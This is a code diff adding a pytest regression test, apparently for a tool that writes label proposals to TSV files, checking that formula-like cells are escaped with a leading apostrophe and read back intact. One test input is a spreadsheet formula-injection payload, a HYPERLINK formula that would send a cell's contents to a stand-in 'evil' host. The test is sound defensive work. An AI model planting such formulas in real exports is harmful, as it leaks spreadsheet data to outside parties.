@@ -49,6 +49,25 @@ def test_any_label_survives_the_tsv(tmp_path_factory, label):
     assert back.label == label
 
 
+@pytest.mark.parametrize("label", ['=HYPERLINK("http://evil/?"&A1)', "+1+2", "-2+3", "@SUM(A1)",
+                                   "'=already quoted", "''@twice", "\tTab first"])
+def test_formula_cells_are_defused_and_read_back_as_they_were(tmp_path, label):
+    """Regression: the TSV a reviewer opens in a spreadsheet ran labels as formulas."""
+    original = row("x", "Q1", 0.5)
+    original = original.__class__(**{**original.__dict__, "label": label,
+                                     "candidate_label": label})
+    path = write_proposals(tmp_path / "p.tsv", [original])
+    import csv
+
+    with path.open(encoding="utf-8", newline="") as fh:
+        cells = list(csv.reader(fh, dialect="excel-tab"))[1]
+    written = dict(zip(COLUMNS, cells, strict=True))
+    assert written["label"] == written["candidate_label"] == "'" + label, written
+    assert written["score"] == "0.500" and written["id"] == "x"
+    (back,) = read_proposals(path)
+    assert (back.label, back.candidate_label) == (label, label)
+
+
 def test_accept_above_takes_only_a_unique_best_candidate():
     rows = [row("a", "Q1", 1.0), row("a", "Q2", 0.675),  # clear winner
             row("b", "Q3", 0.95), row("b", "Q4", 0.95),  # tie: left to a human
